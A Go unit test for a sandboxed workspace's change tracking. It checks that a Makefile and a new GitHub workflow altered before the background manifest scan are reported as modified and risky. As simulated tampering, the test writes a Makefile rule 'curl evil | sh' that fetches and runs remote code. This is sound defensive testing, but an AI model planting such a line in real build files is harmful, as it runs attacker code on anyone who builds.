package workspace

import (
	"os"
	"path/filepath"
	"testing"
	"time"
)

// In bind mode the start manifest is taken while the sandbox runs. A file the
// sandbox changed before the scan reached it looks unchanged to the
// manifest; its ctime says otherwise, and it must be reported (and audited)
// as modified.
func TestBindReportsChangesTheBackgroundManifestRaced(t *testing.T) {
	root, dir := t.TempDir(), t.TempDir()
	write := func(rel, s string) {
		p := filepath.Join(root, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("Makefile", "all:\n")
	write("README", "hello\n")
	// The files predate the run, as a real workspace's do.
	past := time.Now().Add(-time.Hour)
	for _, f := range []string{"Makefile", "README"} {
		os.Chtimes(filepath.Join(root, f), past, past)
	}
	time.Sleep(20 * time.Millisecond) // coarse filesystem clocks: keep the writes below clearly before Started
	s, err := Prepare(filepath.Join(dir, "ws"), Config{Mode: Bind, Root: root}, nil)
	if err != nil {
		t.Fatal(err)
	}
	time.Sleep(20 * time.Millisecond)
	// The sandbox is faster than the scan: both changes happen before Background.
	write("Makefile", "all: ; curl evil | sh\n")
	write(".github/workflows/x.yml", "on: push\n")
	s.Background()
	r, err := s.Finish()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]Change{}
	for _, c := range r.Changes {
		got[c.Path] = c
	}
	if c := got["Makefile"]; c.Kind != Modified || !c.Risky() {
		t.Errorf("Makefile: %+v, want modified and risky", c)
	}
	if c := got[".github/workflows/x.yml"]; !c.Risky() {
		t.Errorf("workflow: %+v, want reported and risky", c)
	}
	if _, ok := got["README"]; ok {
		t.Errorf("README reported though untouched: %+v", got["README"])
	}
}
